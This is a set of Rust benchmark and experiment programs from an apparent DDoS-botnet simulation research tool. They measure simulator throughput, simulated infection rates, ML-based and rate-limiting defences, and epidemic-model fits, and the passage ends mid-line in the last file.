//! * **link-saturation** — the drop-tail flood shape: many links each with
//!   a back-to-back `TxComplete`/`Deliver` pair per popped event, spaced at
//!   serialization granularity.
//!
//! Pass `--smoke` (or set `DDOSIM_BENCH_SMOKE=1`) for a seconds-fast run
//! with reduced operation counts. `--out <FILE>` redirects the JSON
//! artifact (the default is `results/BENCH_netsim.json`).
//!
//! `--compare-only <baseline.json> <current.json>` runs no benchmarks:
//! it compares two snapshots and exits nonzero if any throughput gauge
//! regressed by more than 25% — the CI regression gate.

use netsim::topology::StarTopology;
use netsim::{
    Application, Ctx, EventQueue, LinkConfig, Packet, Payload, ReferenceQueue, SimTime, Simulator,
    TimeOrderedQueue,
};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

/// Whether `--smoke` / `DDOSIM_BENCH_SMOKE=1` shrank the workloads.
fn smoke_mode() -> bool {
    std::env::args().any(|a| a == "--smoke")
        || std::env::var("DDOSIM_BENCH_SMOKE").map(|v| v == "1").unwrap_or(false)
}

/// One step of a replayable schedule: pop once, then push these offsets
/// (nanoseconds after the popped event's time).
struct Step {
    offsets: Vec<u64>,
}

/// The main-loop mix: most follow-ups land within the wheel horizon,
/// a few far beyond it (retransmission timers, churn, attack phases).
fn event_queue_schedule(steps: usize, rng: &mut SmallRng) -> Vec<Step> {
    (0..steps)
        .map(|_| {
            let fanout = rng.gen_range(0..=2usize);
            let offsets = (0..fanout)
                .map(|_| match rng.gen_range(0..10u32) {
                    0..=5 => rng.gen_range(1_000..200_000u64), // µs-scale events
                    6..=8 => rng.gen_range(200_000..50_000_000u64), // ms-scale timers
                    _ => rng.gen_range(50_000_000..2_000_000_000u64), // far timers
                })
                .collect();
            Step { offsets }
        })
        .collect()
}

/// The saturated-link shape: every pop spawns a serialization completion at
/// transmission granularity (~43 µs for a 540-byte frame at 100 Mbps) and
/// a delivery one propagation delay later.
fn link_saturation_schedule(steps: usize, rng: &mut SmallRng) -> Vec<Step> {
    (0..steps)
        .map(|_| {
            let tx = rng.gen_range(20_000..80_000u64);
            let deliver = tx + rng.gen_range(900_000..1_100_000u64);
            Step { offsets: vec![tx, deliver] }
        })
        .collect()
}

/// Replays `schedule` into `q` starting from a primed pending set; returns
/// total queue operations (pushes + pops) performed.
fn drive<Q: TimeOrderedQueue<u64>>(q: &mut Q, pending: usize, schedule: &[Step]) -> u64 {
    let mut seq = 0u64;
    let mut ops = 0u64;
    // Prime a realistic pending population spread over ~60 ms.
    let mut prime = SmallRng::seed_from_u64(0x5EED);
    for _ in 0..pending {
        q.push(SimTime::from_nanos(prime.gen_range(0..60_000_000u64)), seq, seq);
        seq += 1;
        ops += 1;
    }
    for step in schedule {
        let Some((now, _, _)) = q.pop() else { break };
        ops += 1;
        for &off in &step.offsets {
            q.push(SimTime::from_nanos(now.as_nanos().saturating_add(off)), seq, seq);
            seq += 1;
            ops += 1;
        }
    }
    // Drain what's left so both implementations do the full pop work.
    while q.pop().is_some() {
        ops += 1;
    }
    ops
}

/// Times `f` over `reps` repetitions and returns the best (least noisy)
/// ops/sec together with the op count.
fn best_rate(reps: usize, mut f: impl FnMut() -> u64) -> (u64, f64) {
    let mut best = f64::MIN;
    let mut ops = 0;
    for _ in 0..reps.max(1) {
        let start = Instant::now();
        ops = f();
        let rate = ops as f64 / start.elapsed().as_secs_f64().max(1e-9);
        best = best.max(rate);
    }
    (ops, best)
}

/// Compares the calendar queue against the reference heap on one schedule.
fn compare(name: &str, pending: usize, schedule: &[Step], reps: usize) -> djson::Json {
    // Untimed warm-up: first touches of the bucket ring and heap pay
    // allocator and frequency-scaling costs that belong to neither side.
    let warm = schedule.len().min(50_000);
    let mut q = EventQueue::new();
    drive(&mut q, pending, &schedule[..warm]);
    let mut q = ReferenceQueue::new();
    drive(&mut q, pending, &schedule[..warm]);

    let (ops, calendar) = best_rate(reps, || {
        let mut q = EventQueue::new();
        drive(&mut q, pending, schedule)
    });
    let (_, reference) = best_rate(reps, || {
        let mut q = ReferenceQueue::new();
        drive(&mut q, pending, schedule)
    });
    let speedup = calendar / reference;
    println!(
        "{name}: {ops} ops | calendar {calendar:.0}/s | reference heap {reference:.0}/s | speedup {speedup:.2}x"
    );
    djson::Json::obj([
        ("ops", djson::Json::U64(ops)),
        ("calendar_events_per_sec", djson::Json::F64(calendar)),
        ("reference_events_per_sec", djson::Json::F64(reference)),
        ("speedup", djson::Json::F64(speedup)),
    ])
}

#[derive(Default)]
struct Sink;
impl Application for Sink {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {}
}

struct Blaster {
    dst: SocketAddr,
    interval: Duration,
}
impl Application for Blaster {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(Duration::ZERO, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        let _ = ctx.udp_send(1000, self.dst, Payload::empty(), 512);
        ctx.set_timer(self.interval, 0);
    }
}

/// A whole simulation under flood load: many spokes blasting one sink
/// through a star fabric — the packet hot path end to end. Reports
/// simulated packets per wall-clock second and the peak event-queue depth.
fn whole_sim(spokes: usize, sim_secs: u64) -> djson::Json {
    let mut sim = Simulator::new(3);
    let mut star = StarTopology::new(&mut sim, "fabric");
    let sink_node = sim.add_node("tserver");
    let m = star.attach(
        &mut sim,
        sink_node,
        LinkConfig::new(10_000_000, Duration::from_millis(1)),
    );
    sim.install_app(sink_node, Box::new(Sink));
    for i in 0..spokes {
        let n = sim.add_node(format!("dev{i}"));
        star.attach(&mut sim, n, LinkConfig::new(1_000_000, Duration::from_millis(2)));
        sim.install_app(
            n,
            Box::new(Blaster {
                dst: SocketAddr::new(m.addr_v4, 9),
                interval: Duration::from_micros(4320), // saturate 1 Mbps with 540 B frames
            }),
        );
    }
    let start = Instant::now();
    sim.run_until(SimTime::from_secs(sim_secs));
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    let pps = packets as f64 / elapsed;
    let peak = sim.peak_pending_events();
    println!(
        "whole-sim: {spokes} spokes x {sim_secs}s sim in {elapsed:.2}s wall | {pps:.0} packets/s | peak queue depth {peak}"
    );
    djson::Json::obj([
        ("spokes", djson::Json::U64(spokes as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("wall_seconds", djson::Json::F64(elapsed)),
        ("packets", djson::Json::U64(packets)),
        ("packets_per_sec", djson::Json::F64(pps)),
        ("peak_pending_events", djson::Json::U64(peak as u64)),
    ])
}

/// Maximum tolerated throughput loss before the gate fails (25%).
const REGRESSION_TOLERANCE: f64 = 0.25;

/// The throughput gauges the regression gate compares.
const GAUGES: [(&str, &str); 3] = [
    ("event_queue", "calendar_events_per_sec"),
    ("link_saturation", "calendar_events_per_sec"),
    ("whole_sim", "packets_per_sec"),
];

/// Extracts one gauge from a snapshot document.
fn gauge(doc: &djson::Json, section: &str, field: &str) -> Result<f64, String> {
    doc.get(section)
        .and_then(|s| s.get(field))
        .and_then(djson::Json::as_f64)
        .ok_or_else(|| format!("snapshot has no numeric {section}.{field}"))
}

/// Compares every gauge of `current` against `baseline`; returns the
/// human-readable verdict lines and whether any gauge regressed beyond
/// [`REGRESSION_TOLERANCE`].
fn regressions(baseline: &djson::Json, current: &djson::Json) -> Result<(Vec<String>, bool), String> {
    let mut lines = Vec::new();
    let mut failed = false;
    for (section, field) in GAUGES {
        let base = gauge(baseline, section, field)?;
        let cur = gauge(current, section, field)?;
        let ratio = if base > 0.0 { cur / base } else { 1.0 };
        let regressed = ratio < 1.0 - REGRESSION_TOLERANCE;
        lines.push(format!(
            "{section}.{field}: baseline {base:.0}/s, current {cur:.0}/s ({:+.1}%){}",
            (ratio - 1.0) * 100.0,
            if regressed { "  <-- REGRESSION" } else { "" }
        ));
        failed |= regressed;
    }
    Ok((lines, failed))
}

/// The `--compare-only` gate: load, compare, exit nonzero on regression.
fn compare_snapshots(baseline_path: &str, current_path: &str) -> std::process::ExitCode {
    let load = |path: &str| -> Result<djson::Json, String> {
        let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
        djson::Json::parse(&text).map_err(|e| format!("parsing {path}: {e:?}"))
    };
    let result = load(baseline_path)
        .and_then(|base| load(current_path).map(|cur| (base, cur)))
        .and_then(|(base, cur)| regressions(&base, &cur));
    match result {
        Ok((lines, failed)) => {
            for line in &lines {
                println!("{line}");
            }
            if failed {
                eprintln!(
                    "perfsnap: throughput regressed more than {:.0}% against {baseline_path}",
                    REGRESSION_TOLERANCE * 100.0
                );
                std::process::ExitCode::FAILURE
            } else {
                println!("perfsnap: within {:.0}% of baseline", REGRESSION_TOLERANCE * 100.0);
                std::process::ExitCode::SUCCESS
            }
        }
        Err(msg) => {
            eprintln!("perfsnap: {msg}");
            std::process::ExitCode::from(2)
        }
    }
}

fn main() -> std::process::ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let Some(i) = args.iter().position(|a| a == "--compare-only") {
        let (Some(base), Some(cur)) = (args.get(i + 1), args.get(i + 2)) else {
            eprintln!("usage: perfsnap --compare-only <baseline.json> <current.json>");
            return std::process::ExitCode::from(2);
        };
        return compare_snapshots(base, cur);
    }
    let out_path = args
        .iter()
        .position(|a| a == "--out")
        .and_then(|i| args.get(i + 1))
        .cloned();
    let smoke = smoke_mode();
    // The pending population matches the paper's scale ambitions: thousands
    // of Devs each holding timers and in-flight frames.
    let (steps, pending, reps, spokes, sim_secs) = if smoke {
        (400_000, 65_536, 2, 20, 5)
    } else {
        (2_000_000, 131_072, 3, 60, 20)
    };
    let mut rng = SmallRng::seed_from_u64(0xBE7C);
    let eq_schedule = event_queue_schedule(steps, &mut rng);
    let sat_schedule = link_saturation_schedule(steps, &mut rng);

    let event_queue = compare("event-queue", pending, &eq_schedule, reps);
    let link_saturation = compare("link-saturation", pending, &sat_schedule, reps);
    let sim = whole_sim(spokes, sim_secs);

    let out = djson::Json::obj([
        ("schema", djson::Json::Str("ddosim.bench.netsim/1".into())),
        ("smoke", djson::Json::Bool(smoke)),
        ("event_queue", event_queue),
        ("link_saturation", link_saturation),
        ("whole_sim", sim),
    ]);
    match out_path {
        Some(path) => match std::fs::write(&path, out.to_string_pretty()) {
            Ok(()) => println!("wrote {path}"),
            Err(e) => {
                eprintln!("failed to write {path}: {e}");
                return std::process::ExitCode::FAILURE;
            }
        },
        None => ddosim_bench::write_artifact("BENCH_netsim.json", &out.to_string_pretty()),
    }
    std::process::ExitCode::SUCCESS
}

#[cfg(test)]
mod tests {
    use super::*;

    fn snapshot(eq: f64, sat: f64, sim: f64) -> djson::Json {
        let rate = |v| djson::Json::obj([("calendar_events_per_sec", djson::Json::F64(v))]);
        djson::Json::obj([
            ("event_queue", rate(eq)),
            ("link_saturation", rate(sat)),
            ("whole_sim", djson::Json::obj([("packets_per_sec", djson::Json::F64(sim))])),
        ])
    }

    #[test]
    fn small_slowdowns_pass_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6);
        let cur = snapshot(0.8e6, 1.9e6, 3.2e6); // worst gauge -20%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(!failed, "{lines:?}");
        assert_eq!(lines.len(), GAUGES.len());
    }

    #[test]
    fn a_single_large_regression_fails_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6);
        let cur = snapshot(1e6, 2e6, 2e6); // whole_sim -33%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed);
        assert!(lines.iter().any(|l| l.contains("REGRESSION")));
    }

    #[test]
    fn malformed_snapshots_are_reported_not_panicked() {
        let err = regressions(&djson::Json::obj([]), &snapshot(1.0, 1.0, 1.0))
            .expect_err("missing sections");
        assert!(err.contains("event_queue"));
    }
}
