//! Regenerates the **R1/R2** result: memory-error vulnerabilities as a
//! botnet-recruitment vector, and the recruitment (infection) rate.
//!
//! The paper's answer: with the two-stage leak+rebase exploit, **all**
//! targeted Devs are recruited (100% infection) regardless of their
//! W⊕X/ASLR subset. The matrix below also shows *why* the strategy
//! matters: static chains die to ASLR and code injection dies to W⊕X.

use ddosim_core::experiment::infection_matrix;
use ddosim_core::report::{fmt_f, Table};

fn main() {
    let devs = if ddosim_bench::quick_mode() { 10 } else { 40 };
    println!("Infection matrix: {devs} Devs per cell, protections × exploit strategy");
    let points = infection_matrix(devs, 5000);

    let mut table = Table::new(
        "R1/R2 — infection rate by protections × exploit strategy",
        &["protections", "strategy", "infection rate", "mean time-to-infect (s)"],
    );
    for p in &points {
        table.push_row(vec![
            p.protections.to_string(),
            p.strategy.to_string(),
            format!("{:.0}%", p.infection_rate * 100.0),
            fmt_f(p.mean_time_to_infection_secs, 1),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("infection.csv", &table.to_csv());

    let leak_rebase_all_full = points
        .iter()
        .filter(|p| p.strategy == ddosim_core::ExploitStrategy::LeakRebase)
        .all(|p| (p.infection_rate - 1.0).abs() < f64::EPSILON);
    println!("leak+rebase achieves 100% infection on every protection subset (R2): {leak_rebase_all_full}");
}
