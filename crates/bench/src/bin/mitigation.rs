//! Quantifies deployed defenses — the paper's §I use case: "researchers
//! can also utilize DDoSim to implement and evaluate defense strategies
//! against these attacks in the simulated environment, measuring their
//! effectiveness".
//!
//! Three runs of the same scenario (bots + benign clients): undefended, a
//! per-source token-bucket rate limiter at the upstream router, and an
//! ML-in-the-loop filter (logistic regression trained on traffic from the
//! undefended run, re-scoring sources every window). Reported per defense:
//! attack magnitude at TServer and benign-traffic collateral damage.

use analysis::{
    label_samples, train_test_split, BenignClient, FeatureExtractor, LogisticRegression,
    ModelFilter, RateLimiter, TrainConfig,
};
use ddosim_core::report::{fmt_f, Table};
use ddosim_core::{AttackSpec, Ddosim, SimulationBuilder};
use netsim::{LinkConfig, SimTime, TraceKind, TraceRecord};
use std::cell::RefCell;
use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr};
use std::rc::Rc;
use std::time::Duration;

struct Outcome {
    label: String,
    attack_kbps: f64,
    benign_delivered: u64,
}

enum Defense {
    None,
    RateLimiter,
    Model(LogisticRegression),
}

fn build(devs: usize, benign: usize) -> (Ddosim, HashSet<IpAddr>, HashSet<IpAddr>) {
    let mut instance = SimulationBuilder::new()
        .devs(devs)
        .attack(AttackSpec::udp_plain(Duration::from_secs(60)))
        .attack_at(Duration::from_secs(40))
        .sim_time(Duration::from_secs(140))
        .seed(12000)
        .build()
        .expect("valid configuration");
    let (_, tserver_v4) = instance.tserver();
    let attack_sources: HashSet<IpAddr> = instance.devs().iter().map(|d| d.addr_v4).collect();
    let mut benign_sources = HashSet::new();
    for i in 0..benign {
        let member = instance.attach_extra_node(
            &format!("benign-{i}"),
            LinkConfig::new(2_000_000, Duration::from_millis(15)),
        );
        benign_sources.insert(member.addr_v4);
        let node = member.node;
        instance.sim_mut().install_app(
            node,
            Box::new(BenignClient::new(
                SocketAddr::new(tserver_v4, 80),
                Duration::from_millis(250),
            )),
        );
    }
    (instance, attack_sources, benign_sources)
}

fn run(
    devs: usize,
    benign: usize,
    defense: Defense,
    label: &str,
    benign_sources_out: &mut HashSet<IpAddr>,
) -> (Outcome, Vec<TraceRecord>) {
    let (mut instance, _attack, benign_sources) = build(devs, benign);
    *benign_sources_out = benign_sources.clone();
    let (tserver_node, _) = instance.tserver();
    let fabric = instance.fabric_node();
    match defense {
        Defense::None => {}
        Defense::RateLimiter => {
            instance.sim_mut().schedule_call(SimTime::from_secs(39), move |sim| {
                sim.set_ingress_filter(fabric, RateLimiter::default().into_filter());
            });
        }
        Defense::Model(model) => {
            instance.sim_mut().schedule_call(SimTime::from_secs(39), move |sim| {
                sim.set_ingress_filter(
                    fabric,
                    ModelFilter {
                        model,
                        window: Duration::from_secs(2),
                        threshold: 0.5,
                    }
                    .into_filter(),
                );
            });
        }
    }
    let records: Rc<RefCell<Vec<TraceRecord>>> = Rc::new(RefCell::new(Vec::new()));
    let tap = Rc::clone(&records);
    instance.sim_mut().set_trace(Box::new(move |r| {
        if r.node == tserver_node && r.kind == TraceKind::Delivered {
            tap.borrow_mut().push(r.clone());
        }
    }));
    let result = instance.run_to_completion();
    let recs = Rc::try_unwrap(records)
        .map(|c| c.into_inner())
        .unwrap_or_default();
    let benign_delivered = recs
        .iter()
        .filter(|r| benign_sources.contains(&r.src.ip()))
        .count() as u64;
    (
        Outcome {
            label: label.to_owned(),
            attack_kbps: result.avg_received_data_rate_kbps,
            benign_delivered,
        },
        recs,
    )
}

fn main() {
    let (devs, benign) = if ddosim_bench::quick_mode() { (10, 5) } else { (40, 15) };
    println!("Defense evaluation: {devs} bots + {benign} benign clients, defenses deployed at attack time");

    // Run 1: undefended baseline; its traffic trains the ML detector.
    let mut benign_sources = HashSet::new();
    let (baseline, records) = run(devs, benign, Defense::None, "no defense", &mut benign_sources);
    let attack_sources: HashSet<IpAddr> = {
        // Everything delivered that is not benign and not control traffic
        // from the attacker counts as attack for labeling purposes; the
        // ground truth is the Dev address set, reconstructed from a fresh
        // build (same seed => same world).
        let (instance, attack, _) = build(devs, benign);
        drop(instance);
        attack
    };
    let mut fx = FeatureExtractor::new(Duration::from_secs(2));
    for r in &records {
        fx.push(r);
    }
    let samples = label_samples(fx.finish(), &attack_sources);
    let (train, _test) = train_test_split(samples, 0.2, 3);
    let model = LogisticRegression::train(&train, TrainConfig::default());

    // Runs 2 and 3: deployed defenses.
    let (limited, _) = run(devs, benign, Defense::RateLimiter, "token-bucket rate limiter", &mut benign_sources);
    let (filtered, _) = run(devs, benign, Defense::Model(model), "ML filter (logistic regression)", &mut benign_sources);

    let mut table = Table::new(
        "Deployed-defense evaluation at the upstream router",
        &["defense", "attack avg (kbps)", "mitigation", "benign pkts delivered", "benign collateral"],
    );
    for o in [&baseline, &limited, &filtered] {
        table.push_row(vec![
            o.label.clone(),
            fmt_f(o.attack_kbps, 1),
            format!("{:.0}%", (1.0 - o.attack_kbps / baseline.attack_kbps.max(1e-9)) * 100.0),
            o.benign_delivered.to_string(),
            format!(
                "{:.0}%",
                (1.0 - o.benign_delivered as f64 / baseline.benign_delivered.max(1) as f64)
                    * 100.0
            ),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("mitigation.csv", &table.to_csv());
}
