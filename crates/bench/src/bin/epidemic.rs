//! Regenerates the **§V-A2 use case**: comparing a mathematical epidemic
//! model of botnet spread against DDoSim's measured infection curve.
//!
//! Pipeline: run the recruitment phase, extract per-device infection
//! timestamps, fit the contact rate β of a Susceptible-Infected ODE model
//! (RK4-integrated), and report the fit error — exactly the workflow the
//! paper proposes for researchers testing propagation models.

use analysis::{fit_si_beta, infected_curve, observed_curve, SirParams, SirState};
use ddosim_core::report::{fmt_f, Table};
use ddosim_core::{Recruitment, SimulationBuilder};
use std::time::Duration;

fn main() {
    let devs = if ddosim_bench::quick_mode() { 20 } else { 80 };
    println!("Epidemic-model fit over {devs} Devs (attacker-driven recruitment)");
    let result = SimulationBuilder::new()
        .devs(devs)
        .attack_at(Duration::from_secs(90))
        .sim_time(Duration::from_secs(200))
        .seed(9000)
        .run()
        .expect("valid configuration");
    println!(
        "measured: {}/{} recruited; first at {:.1}s, last at {:.1}s",
        result.infected,
        result.devs,
        result.infection_times_secs.first().copied().unwrap_or(0.0),
        result.infection_times_secs.last().copied().unwrap_or(0.0),
    );

    let dt = 1.0;
    let horizon = 60.0;
    let observed = observed_curve(&result.infection_times_secs, dt, horizon);
    let (beta, err) = fit_si_beta(&observed, devs as f64, 1.0, dt);
    println!("fitted SI contact rate beta = {beta:.3} (RMSE {err:.2} devices)");

    // Worm mode: the growth SI models actually describe (each infected
    // host infects others).
    let worm = SimulationBuilder::new()
        .devs(devs)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 1,
        })
        .attack_at(Duration::from_secs(90))
        .sim_time(Duration::from_secs(200))
        .seed(9001)
        .run()
        .expect("valid configuration");
    let worm_observed = observed_curve(&worm.infection_times_secs, dt, horizon);
    let (worm_beta, worm_err) = fit_si_beta(&worm_observed, devs as f64, 1.0, dt);
    println!(
        "worm mode (1 seed, self-propagating): {}/{} recruited; beta = {worm_beta:.3} (RMSE {worm_err:.2})",
        worm.infected, worm.devs
    );
    ddosim_bench::write_artifact(
        "epidemic_worm_fit.txt",
        &format!("beta={worm_beta:.4}\nrmse={worm_err:.4}\nn={devs}\n"),
    );

    let model = infected_curve(
        SirState {
            s: devs as f64 - 1.0,
            i: 1.0,
            r: 0.0,
        },
        SirParams { beta, gamma: 0.0 },
        dt,
        observed.len() - 1,
    );
    let mut table = Table::new(
        "Botnet growth: measured vs fitted SI model",
        &["t (s)", "measured infected", "SI model"],
    );
    for (k, (obs, m)) in observed.iter().zip(&model).enumerate() {
        if k % 5 == 0 {
            table.push_row(vec![k.to_string(), fmt_f(*obs, 0), fmt_f(*m, 1)]);
        }
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("epidemic.csv", &table.to_csv());
    ddosim_bench::write_artifact(
        "epidemic_fit.txt",
        &format!("beta={beta:.4}\nrmse={err:.4}\nn={devs}\n"),
    );
}
