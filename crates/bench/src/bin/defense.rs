//! Regenerates the **§V-A use case**: testing an ML-based DDoS defense
//! with DDoSim-generated traffic.
//!
//! The pipeline: run a botnet attack with benign background clients, tap
//! TServer's traffic (the trace hook is the Wireshark analogue), extract
//! per-flow features, label by ground truth, train a logistic-regression
//! detector, and report classification quality on held-out flows.

use analysis::{
    label_samples, BenignClient, FeatureExtractor, LogisticRegression, Metrics, Mlp, MlpConfig,
    TrainConfig,
};
use ddosim_core::{AttackSpec, Ddosim, SimulationBuilder};
use netsim::{LinkConfig, TraceRecord};
use std::cell::RefCell;
use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr};
use std::rc::Rc;
use std::time::Duration;

fn main() {
    let (devs, benign) = if ddosim_bench::quick_mode() { (10, 5) } else { (40, 20) };
    println!("ML-defense dataset: {devs} bots + {benign} benign clients");

    let mut instance: Ddosim = SimulationBuilder::new()
        .devs(devs)
        .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
        .sim_time(Duration::from_secs(200))
        .seed(8000)
        .build()
        .expect("valid configuration");

    let (tserver_node, tserver_v4) = instance.tserver();
    let attack_sources: HashSet<IpAddr> = instance.devs().iter().map(|d| d.addr_v4).collect();

    // Benign background clients talking to TServer throughout.
    let mut benign_sources = HashSet::new();
    for i in 0..benign {
        let member = instance.attach_extra_node(
            &format!("benign-{i}"),
            LinkConfig::new(2_000_000, Duration::from_millis(15)),
        );
        benign_sources.insert(member.addr_v4);
        let app = BenignClient::new(
            SocketAddr::new(tserver_v4, 80),
            Duration::from_millis(400),
        );
        let node = member.node;
        instance.sim_mut().install_app(node, Box::new(app));
    }

    // Tap TServer's inbound traffic (Wireshark-lite).
    let records: Rc<RefCell<Vec<TraceRecord>>> = Rc::new(RefCell::new(Vec::new()));
    let tap = Rc::clone(&records);
    instance.sim_mut().set_trace(Box::new(move |r| {
        if r.node == tserver_node && r.kind == netsim::TraceKind::Delivered {
            tap.borrow_mut().push(r.clone());
        }
    }));

    let result = instance.run_to_completion();
    println!(
        "simulated: {} bots, avg received {:.0} kbps, {} trace records",
        result.infected,
        result.avg_received_data_rate_kbps,
        records.borrow().len()
    );

    // Feature extraction + labeling.
    let mut fx = FeatureExtractor::new(Duration::from_secs(2));
    for r in records.borrow().iter() {
        fx.push(r);
    }
    let features = fx.finish();
    let samples = label_samples(features, &attack_sources);
    let n_attack = samples.iter().filter(|s| s.label).count();
    println!(
        "dataset: {} flow windows ({} attack, {} benign)",
        samples.len(),
        n_attack,
        samples.len() - n_attack
    );

    let (train, test) = analysis::train_test_split(samples, 0.3, 99);
    let model = LogisticRegression::train(&train, TrainConfig::default());
    let metrics = Metrics::evaluate(&model, &test);
    println!(
        "logistic regression on held-out flows: accuracy {:.1}%  precision {:.1}%  recall {:.1}%  F1 {:.3}",
        metrics.accuracy() * 100.0,
        metrics.precision() * 100.0,
        metrics.recall() * 100.0,
        metrics.f1()
    );
    // The paper names neural networks as the canonical model class.
    let mlp = Mlp::train(&train, MlpConfig::default());
    println!(
        "neural network (8 hidden tanh units): accuracy {:.1}%",
        mlp.accuracy(&test) * 100.0
    );
    ddosim_bench::write_artifact(
        "defense.txt",
        &format!(
            "flows={} attack={} benign={}\naccuracy={:.4} precision={:.4} recall={:.4} f1={:.4}\n",
            metrics.tp + metrics.fp + metrics.tn + metrics.fn_,
            metrics.tp + metrics.fn_,
            metrics.tn + metrics.fp,
            metrics.accuracy(),
            metrics.precision(),
            metrics.recall(),
            metrics.f1()
        ),
    );
}
