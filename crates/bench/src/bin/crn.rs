//! Measures the variance reduction from **common random numbers** (CRN)
//! across the paper's paired comparisons: every paired experiment variant
//! ([`ddosim_core::experiment::fig2_paired`] and friends) runs its
//! baseline and treatment arms twice — once with both arms pinned to the
//! same noise streams via [`ddosim_core::RngPlan::pinned`], once with
//! independent seeds — and reports the sample variance of the
//! per-replicate difference under each design.
//!
//! The headline column is `var ratio` = independent variance / paired
//! variance: how many times fewer replicates the paired design needs for
//! the same standard error on the treatment effect. Emits
//! `results/crn.csv`.

use ddosim_core::experiment::{
    ablations_paired, fig2_paired, fig3_paired, infection_matrix_paired,
};
use ddosim_core::report::{fmt_f, Table};
use ddosim_core::CrnComparison;

fn main() {
    let (devs, reps) = if ddosim_bench::quick_mode() { (10, 3) } else { (25, 10) };
    println!("CRN variance sweep: devs={devs} × {reps} replicates per arm");

    let sections: Vec<(&str, Vec<CrnComparison>)> = vec![
        ("fig2 churn", fig2_paired(devs, reps, 4000)),
        ("fig3 duration", fig3_paired(devs, &[60, 120, 180], reps, 4100)),
        ("infection strategy", infection_matrix_paired(devs, reps, 4200)),
        ("hardening ablations", ablations_paired(devs, reps, 4300)),
    ];

    let mut table = Table::new(
        "CRN — paired vs independent difference variance",
        &[
            "experiment",
            "treatment",
            "base mean",
            "treat mean",
            "diff",
            "paired var",
            "indep var",
            "var ratio",
        ],
    );
    for (section, comparisons) in &sections {
        for c in comparisons {
            table.push_row(vec![
                section.to_string(),
                c.label.clone(),
                fmt_f(c.baseline_mean, 2),
                fmt_f(c.treatment_mean, 2),
                fmt_f(c.diff_mean, 2),
                fmt_f(c.paired_diff_var, 2),
                fmt_f(c.independent_diff_var, 2),
                fmt_f(c.variance_ratio, 1),
            ]);
        }
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("crn.csv", &table.to_csv());
}
