//! Exports the per-second received-data-rate series at TServer for a
//! configurable scenario — the raw material behind every figure (plot
//! `results/timeseries.csv` to see the ramp, the plateau, the drain, and
//! churn dips).

use ddosim_core::report::Table;
use ddosim_core::{AttackSpec, SimulationBuilder};
use std::time::Duration;

fn main() {
    let (devs, churn) = if ddosim_bench::quick_mode() {
        (20usize, churn::ChurnMode::None)
    } else {
        (80, churn::ChurnMode::Dynamic)
    };
    println!("Time series: {devs} Devs, {churn}, 100 s UDP-PLAIN at t=60 s");
    let result = SimulationBuilder::new()
        .devs(devs)
        .churn(churn)
        .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(220))
        .seed(15000)
        .run()
        .expect("valid configuration");

    let mut table = Table::new(
        "Per-second received data rate at TServer",
        &["t (s)", "kbits/s"],
    );
    for (t, kbits) in result.per_second_kbits.iter().enumerate() {
        table.push_row(vec![t.to_string(), format!("{kbits:.1}")]);
    }
    ddosim_bench::write_artifact("timeseries.csv", &table.to_csv());

    // ASCII sparkline for a quick look.
    let peak = result.peak_received_kbits().max(1.0);
    println!("t=0..{}s, peak {:.0} kbit/s:", result.per_second_kbits.len(), peak);
    for chunk in result.per_second_kbits.chunks(2) {
        let v = chunk.iter().sum::<f64>() / chunk.len() as f64;
        let bar = (v / peak * 60.0).round() as usize;
        print!("{}", if bar == 0 { '.' } else { '|' });
        let _ = bar;
    }
    println!();
    let series = &result.per_second_kbits;
    let window: f64 = series[60..160.min(series.len())].iter().sum::<f64>()
        / 100.0;
    println!(
        "attack-window mean {window:.1} kbps (Eq. 2: {:.1}); outside-window traffic ~{:.1} kbps",
        result.avg_received_data_rate_kbps,
        (series.iter().sum::<f64>() - window * 100.0) / (series.len() as f64 - 100.0).max(1.0)
    );
}
