//! Regenerates **Figure 4**: validation of DDoSim against the
//! hardware-reference scenario over 1–19 Devs (§IV-D).
//!
//! The paper compares DDoSim against physical Raspberry Pis on a Netgear
//! router; we compare DDoSim's abstract star topology against the
//! higher-fidelity Wi-Fi-contention model (`testbed` crate) — same
//! software stack, different medium. The reproduced claim: the two curves
//! coincide closely across the range.

use ddosim_core::report::{fmt_f, Table};
use testbed::fig4;

fn main() {
    let dev_counts: Vec<usize> = if ddosim_bench::quick_mode() {
        vec![1, 5, 10]
    } else {
        vec![1, 3, 5, 7, 9, 11, 13, 15, 17, 19]
    };
    println!("Figure 4 sweep: devs={dev_counts:?} (DDoSim star vs Wi-Fi hardware reference)");
    let points = fig4(&dev_counts, 4000);

    let mut table = Table::new(
        "Figure 4 — DDoSim vs hardware-reference average received data rate (kbps)",
        &["devs", "ddosim", "hardware-ref", "relative error"],
    );
    for p in &points {
        table.push_row(vec![
            p.devs.to_string(),
            fmt_f(p.ddosim_kbps, 1),
            fmt_f(p.hardware_kbps, 1),
            format!("{:.1}%", p.relative_error * 100.0),
        ]);
    }
    println!("{}", table.render());
    ddosim_bench::write_artifact("fig4.csv", &table.to_csv());

    let mean_err =
